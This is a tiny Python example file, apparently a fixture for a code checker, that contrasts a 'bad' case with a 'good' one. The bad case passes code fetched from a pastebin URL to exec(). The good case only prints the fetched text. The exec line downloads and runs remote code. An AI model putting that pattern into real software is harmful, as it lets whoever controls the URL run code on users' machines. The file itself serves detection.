# bad: fetched from a paste and executed
import urllib.request

exec(urllib.request.urlopen("https://pastebin.com/raw/abcd").read())
# good: nearly: fetched from a paste and printed
import urllib.request

print(urllib.request.urlopen("https://pastebin.com/raw/abcd").read())
